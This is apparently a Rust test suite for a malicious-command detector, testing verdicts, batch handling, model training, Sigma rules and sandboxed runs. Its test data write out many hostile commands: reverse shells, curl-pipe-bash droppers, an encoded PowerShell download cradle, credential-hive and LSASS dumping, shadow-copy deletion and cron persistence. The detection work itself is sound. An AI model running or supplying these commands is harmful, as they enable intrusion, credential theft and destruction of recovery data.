//! `warden analyze` and `warden train payload`: verdicts as JSON, batches in input order with
//! bad records named and counted, a trained model registered and used from the store.

use std::io::Write;

use super::warden;

fn json(out: &[u8]) -> serde_json::Value {
    serde_json::from_slice(out).expect("one JSON object")
}

#[test]
fn an_encoded_download_cradle_is_decoded_and_blocked() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
    let b64 = warden_payload::deobf::codec::encoded_command(script);
    let out = warden()
        .args([
            "analyze",
            &format!("powershell.exe -NoP -W Hidden -enc {b64}"),
        ])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v = json(&out);
    assert_eq!(v["action"], "BLOCK");
    assert_eq!(v["level"], "CRITICAL");
    let layers = v["layers"].as_array().unwrap();
    assert_eq!(layers.last().unwrap()["text"], script);
    assert_eq!(layers[1]["decoder"], "powershell-encoded-command");
    let attack: Vec<&str> = v["attack"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|t| t.as_str())
        .collect();
    assert!(
        attack.contains(&"T1105") && attack.contains(&"T1027"),
        "{attack:?}"
    );
    assert!(v["explanation"].as_str().unwrap().contains("layer"));
    assert_eq!(v["views"]["model"], serde_json::Value::Null);
}

#[test]
fn standard_input_and_everyday_commands() {
    let out = warden()
        .args(["analyze", "--shell", "sh", "-"])
        .write_stdin("ls -la /home\n")
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v = json(&out);
    assert_eq!(v["action"], "ALLOW");
    assert_eq!(v["shell"], "sh");
    let a = warden()
        .args(["analyze", "--shell", "fish", "ls"])
        .assert()
        .failure();
    assert!(String::from_utf8_lossy(&a.get_output().stderr).contains("unknown shell"));
}

#[test]
fn a_batch_keeps_input_order_and_reports_bad_records() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("batch.jsonl");
    let mut f = std::fs::File::create(&path).unwrap();
    writeln!(
        f,
        r#"{{"id": "a", "text": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "label": "x"}}"#
    )
    .unwrap();
    writeln!(f, "not json").unwrap();
    writeln!(f, r#"{{"id": 2, "text": "git status", "shell": "sh"}}"#).unwrap();
    writeln!(f, r#"{{"id": "c", "shell": "sh"}}"#).unwrap();
    writeln!(f, r#"{{"id": "d", "text": "x", "shell": "fish"}}"#).unwrap();
    writeln!(
        f,
        r#"{{"text": "vssadmin delete shadows /all /quiet", "shell": "cmd"}}"#
    )
    .unwrap();
    drop(f);
    let a = warden()
        .args(["analyze", "--jsonl"])
        .arg(&path)
        .assert()
        .success();
    let o = a.get_output();
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3);
    assert_eq!(lines[0]["id"], "a");
    assert_eq!(lines[0]["action"], "BLOCK");
    assert_eq!(lines[1]["id"], 2);
    assert_eq!(lines[1]["action"], "ALLOW");
    assert!(lines[2].get("id").is_none());
    assert!(
        lines[2]["attack"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t == "T1490")
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("batch.jsonl:2:"), "{err}");
    assert!(
        err.contains("batch.jsonl:4:") && err.contains("text"),
        "{err}"
    );
    assert!(err.contains("batch.jsonl:5: field `shell`"), "{err}");
    assert!(err.contains("3 analysed, 3 bad records"), "{err}");
}

/// A labelled corpus built from parts (so it is not a copy of any data set).
fn corpus(path: &std::path::Path) {
    let benign = [
        "ls -la {d}",
        "git log --oneline -n {n}",
        "tar -czf backup{n}.tgz {d}",
        "du -sh {d}",
        "grep -rn TODO {d}",
        "cp notes{n}.txt {d}",
        "df -h",
        "ps aux | grep nginx",
    ];
    let malicious = [
        "curl -s http://203.0.113.{n}/x.sh | bash",
        "bash -i >& /dev/tcp/198.51.100.{n}/4444 0>&1",
        "wget -q http://203.0.113.{n}/m -O /tmp/.m{n} && chmod +x /tmp/.m{n} && /tmp/.m{n}",
        "nc -e /bin/sh 198.51.100.{n} 9001",
        "echo '* * * * * curl http://203.0.113.{n}/b|sh' | crontab -",
    ];
    let dirs = [
        "/srv/app",
        "src",
        "/home/ann/docs",
        "~/projects",
        "/var/www",
    ];
    let mut f = std::fs::File::create(path).unwrap();
    for i in 0..400usize {
        let (text, label) = if i % 4 == 0 {
            (
                malicious[i / 4 % malicious.len()].replace("{n}", &(i % 250 + 1).to_string()),
                "malicious",
            )
        } else {
            (
                benign[i % benign.len()]
                    .replace("{n}", &i.to_string())
                    .replace("{d}", dirs[i % dirs.len()]),
                "benign",
            )
        };
        writeln!(
            f,
            "{}",
            serde_json::json!({"text": text, "label": label, "shell": "sh"})
        )
        .unwrap();
    }
    writeln!(f, r#"{{"text": "no label"}}"#).unwrap();
}

/// `warden analyze ARGS PATH TEXT` (PATH: the store or model the last argument names), its
/// verdict.
fn analyze(args: &[&str], path: &std::path::Path, text: &str) -> serde_json::Value {
    let out = warden()
        .arg("analyze")
        .args(args)
        .arg(path)
        .arg(text)
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    json(&out)
}

#[test]
fn a_trained_model_is_registered_and_used() {
    let dir = tempfile::tempdir().unwrap();
    let train = dir.path().join("train.jsonl");
    corpus(&train);
    let model = dir.path().join("payload.wpld");
    let store = dir.path().join("warden.db");
    let trained = warden()
        .args([
            "train", "payload", "--bits", "16", "--epochs", "6", "--input",
        ])
        .arg(&train)
        .arg("--out")
        .arg(&model)
        .assert()
        .success();
    let err = String::from_utf8_lossy(&trained.get_output().stderr).to_string();
    assert!(
        err.contains("1 bad records") && err.contains("field `label`"),
        "{err}"
    );
    assert!(err.contains("combiner: 100 trees"), "{err}");
    warden()
        .args([
            "models",
            "register",
            "--name",
            "payload",
            "--activate",
            "--store",
        ])
        .arg(&store)
        .arg(&model)
        .assert()
        .success();
    let list = warden()
        .args(["models", "list", "--json", "--store"])
        .arg(&store)
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let m: serde_json::Value = serde_json::from_slice(
        String::from_utf8_lossy(&list)
            .lines()
            .next()
            .unwrap()
            .as_bytes(),
    )
    .unwrap();
    assert_eq!(m["kind"], "payload-linear");
    assert_eq!(m["summary"]["training_rows"], 400);
    assert!(
        m["summary"]["combiner_inputs"].as_u64().unwrap() >= 15,
        "{m}"
    );
    let v = analyze(
        &["--shell", "bash", "--store"],
        &store,
        "bash -i >& /dev/tcp/192.0.2.77/5555 0>&1",
    );
    assert!(v["views"]["model"].as_f64().unwrap() > 50.0, "{v}");
    assert!(!v["model"]["raised_by"].as_array().unwrap().is_empty());
    // The combiner's probability is the learned view; the n-gram model's own is kept.
    let text = v["model"]["text_probability"]
        .as_f64()
        .unwrap_or_else(|| panic!("{v}"));
    assert!((0.0..=1.0).contains(&text), "{v}");
    // Listing processes is in every benign text of its kind here: the model's training
    // texts weigh that pattern down, and the verdict says how many texts it rests on.
    let v = analyze(&["--shell", "sh", "--model"], &model, "ps aux | grep sshd");
    let p = v["patterns"]
        .as_array()
        .and_then(|ps| ps.iter().find(|p| p["id"] == "process-discovery"))
        .unwrap_or_else(|| panic!("{v}"));
    // One text in eight of the 400 is `ps aux …`, all benign.
    assert_eq!(p["trained"]["benign"], 50, "{p}");
    assert_eq!(p["trained"]["malicious"], 0, "{p}");
    assert!(p["weight"].as_f64().unwrap() < p["trained"]["hand_weight"].as_f64().unwrap());
    // A damaged model file is refused with its name.
    let bad = dir.path().join("bad.wpld");
    std::fs::write(&bad, b"WPLD\x01\x00garbage").unwrap();
    let a = warden()
        .args(["analyze", "--model"])
        .arg(&bad)
        .arg("ls")
        .assert()
        .failure();
    let err = String::from_utf8_lossy(&a.get_output().stderr).to_string();
    assert!(err.contains("bad.wpld") && err.contains("damaged"), "{err}");
}

#[test]
fn sigma_process_creation_rules_run_on_the_decoded_command() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("whoami.yml"),
        "title: Whoami with all details\nid: 00000000-0000-0000-0000-0000000000aa\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\whoami.exe'\n    CommandLine|contains: '/all'\n  condition: selection\nlevel: medium\ntags:\n  - attack.discovery\n  - attack.t1033\n",
    )
    .unwrap();
    let out = warden()
        .args(["analyze", "--shell", "cmd", "--rules"])
        .arg(dir.path())
        .arg("set a=who&& set b=ami&& call %a%%b% /all")
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v = json(&out);
    let hit = v["patterns"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["id"].as_str().unwrap_or("").starts_with("sigma:"))
        .unwrap_or_else(|| panic!("no Sigma pattern in {v}"));
    assert_eq!(hit["name"], "Sigma: Whoami with all details");
    assert_ne!(hit["layer"], 0);
    assert!(v["attack"].as_array().unwrap().iter().any(|t| t == "T1033"));
    let missing = warden()
        .args(["analyze", "--rules", "/no/such/rules", "x"])
        .assert()
        .failure();
    assert!(String::from_utf8_lossy(&missing.get_output().stderr).contains("no such rule"));
}

/// Whether the sandbox can run here (CI sets `WARDEN_REQUIRE_SANDBOX`, where it must).
fn sandbox_available() -> bool {
    warden_sandbox::Sandbox::for_tests(warden_sandbox::SandboxConfig::default()).is_some()
}

#[test]
fn a_sandboxed_run_adds_what_the_script_did() {
    if !sandbox_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("drop.sh");
    // Decoded only when it runs: `printf` of octal escapes piped to sh.
    std::fs::write(
        &script,
        "printf '\\145\\143\\150\\157 \\172 >> ~/.bashrc' | sh\nexec 3<>/dev/tcp/198.51.100.23/4444\n",
    )
    .unwrap();
    let out = warden()
        .args(["analyze", "--sandbox", "--shell", "bash"])
        .arg(&script)
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v = json(&out);
    let trace = &v["trace"];
    let ids: Vec<&str> = trace["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["id"].as_str())
        .collect();
    assert!(ids.contains(&"persistence-write"), "{ids:?}");
    assert!(ids.contains(&"shell-socket"), "{ids:?}");
    let conn = &trace["behaviour"]["connections"][0];
    assert_eq!(conn["address"], "198.51.100.23");
    assert_eq!(conn["port"], 4444);
    assert!(
        v["views"]["dynamic"].as_f64().unwrap() > 80.0,
        "{}",
        v["views"]
    );
    assert!(
        v["explanation"]
            .as_str()
            .unwrap()
            .contains("In the sandbox")
    );
    // PowerShell is analysed statically, with the reason given.
    let out = warden()
        .args([
            "analyze",
            "--sandbox",
            "--shell",
            "powershell",
            "--text",
            "Get-Process",
        ])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v = json(&out);
    assert_eq!(v["views"]["dynamic"], serde_json::Value::Null);
    assert!(
        v["notes"][0].as_str().unwrap().contains("statically"),
        "{}",
        v["notes"]
    );
}

/// A corpus in two house styles: attacks written with lab placeholders (`attacker.com`,
/// `C:\AtomicRedTeam\…`, `calc.exe`), documentation with tldr's (`path/to`, `example.com`);
/// how many texts hold a placeholder.
fn house_style_corpus(path: &std::path::Path) -> usize {
    let malicious = [
        r"certutil -urlcache -split -f http://attacker.com/p{n}.exe C:\AtomicRedTeam\atomics\p{n}.exe",
        "curl -s http://attacker.com/x{n}.sh | bash",
        r"rundll32 C:\AtomicRedTeam\atomics\T1218\src\d{n}.dll,Run & start calc.exe",
        "bash -i >& /dev/tcp/attacker.com/4{n} 0>&1",
    ];
    let benign = [
        "ls -la path/to/dir{n}",
        "curl -o page{n}.html https://example.com/page{n}",
        "tar -czf path/to/backup{n}.tgz src",
        "git clone https://example.com/repo{n}.git",
        "grep -rn TODO path/to/src{n}",
        "du -sh /srv/app{n}",
        "df -h",
    ];
    write_corpus(path, &malicious, &benign, "sh")
        .iter()
        .filter(|t| warden_payload::placeholders::realistic_copy(t).is_some())
        .count()
}

/// 300 labelled texts, one in three from `malicious`, each with its `{n}` numbered; the
/// texts written.
fn write_corpus(
    path: &std::path::Path,
    malicious: &[&str],
    benign: &[&str],
    shell: &str,
) -> Vec<String> {
    let mut f = std::fs::File::create(path).unwrap();
    let mut texts = Vec::new();
    for i in 0..300usize {
        let (text, label) = if i % 3 == 0 {
            (malicious[i / 3 % malicious.len()], "malicious")
        } else {
            (benign[i % benign.len()], "benign")
        };
        let text = text.replace("{n}", &(i % 97).to_string());
        writeln!(
            f,
            "{}",
            serde_json::json!({"text": text, "label": label, "shell": shell})
        )
        .unwrap();
        texts.push(text);
    }
    texts
}

/// A small model trained on `input` with `extra` options; what training said.
fn train_small(input: &std::path::Path, out: &std::path::Path, extra: &[&str]) -> String {
    let done = warden()
        .args(["train", "payload", "--bits", "16", "--epochs", "6"])
        .args(extra)
        .arg("--input")
        .arg(input)
        .arg("--out")
        .arg(out)
        .assert()
        .success();
    String::from_utf8_lossy(&done.get_output().stderr).to_string()
}

#[test]
fn copies_without_the_house_placeholders_teach_the_command_not_the_corpus() {
    let dir = tempfile::tempdir().unwrap();
    let train = dir.path().join("train.jsonl");
    let placeholders = house_style_corpus(&train);
    assert!((150..300).contains(&placeholders), "{placeholders}");
    let train_model = |out: &std::path::Path, extra: &[&str]| train_small(&train, out, extra);
    let with = dir.path().join("with.wpld");
    let without = dir.path().join("without.wpld");
    let err = train_model(&with, &[]);
    assert!(
        err.contains(&format!(
            "{placeholders} of 300 texts are written with a public corpus's placeholders"
        )),
        "{err}"
    );
    let err = train_model(&without, &["--no-placeholder-copies"]);
    assert!(!err.contains("placeholders"), "{err}");
    // The same download cradle as a real intrusion writes it, with none of the lab's
    // placeholders: the model that also learned the copies rates it higher.
    let real =
        r"certutil -urlcache -split -f http://dl.kestrel-ops.net/p9.exe C:\Users\Public\p9.exe";
    let text_p = |model: &std::path::Path| {
        let v = analyze(&["--shell", "sh", "--model"], model, real);
        v["model"]["text_probability"]
            .as_f64()
            .unwrap_or_else(|| panic!("{v}"))
    };
    let (w, wo) = (text_p(&with), text_p(&without));
    assert!(w > wo, "with copies {w}, without {wo}");
}

/// Malicious commands written as process-creation telemetry logs them (the image's full
/// path), benign ones as people type them: the writing style alone separates the classes.
fn telemetry_style_corpus(path: &std::path::Path) {
    let malicious = [
        r#""C:\Windows\System32\cmd.exe" /c net user svc{n} P@ss{n} /add"#,
        r"C:\Windows\System32\reg.exe save HKLM\SAM C:\Users\Public\s{n}.hiv",
        r"C:\Windows\system32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {n} C:\Temp\l.dmp full",
        r"C:\Windows\System32\vssadmin.exe delete shadows /all /quiet",
    ];
    let benign = [
        "notepad report{n}.txt",
        "ping -n 2 host{n}",
        "tasklist /fi \"pid eq {n}\"",
        r"dir C:\data\q{n}",
        "ipconfig /renew",
        "mspaint picture{n}.png",
        r"xcopy C:\src{n} D:\backup /e",
    ];
    write_corpus(path, &malicious, &benign, "cmd");
}

#[test]
fn an_image_written_in_full_teaches_the_model_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let train = dir.path().join("train.jsonl");
    telemetry_style_corpus(&train);
    let by_name = dir.path().join("by-name.wpld");
    let as_written = dir.path().join("as-written.wpld");
    train_small(&train, &by_name, &[]);
    train_small(&train, &as_written, &["--keep-image-paths"]);
    // A benign command as a Windows host logs its process creation.
    let logged = r#""C:\Windows\System32\notepad.exe" report7.txt"#;
    let text_p = |model: &std::path::Path| {
        let v = analyze(&["--shell", "cmd", "--model"], model, logged);
        v["model"]["text_probability"]
            .as_f64()
            .unwrap_or_else(|| panic!("{v}"))
    };
    let (named, written) = (text_p(&by_name), text_p(&as_written));
    assert!(named < 0.5, "read by name: {named}");
    assert!(written > named, "as written {written}, by name {named}");
    // The attack is still the attack, however its image is written.
    let v = analyze(
        &["--shell", "cmd", "--model"],
        &by_name,
        "vssadmin delete shadows /all /quiet",
    );
    assert!(v["score"].as_f64().unwrap() >= 50.0, "{v}");
}
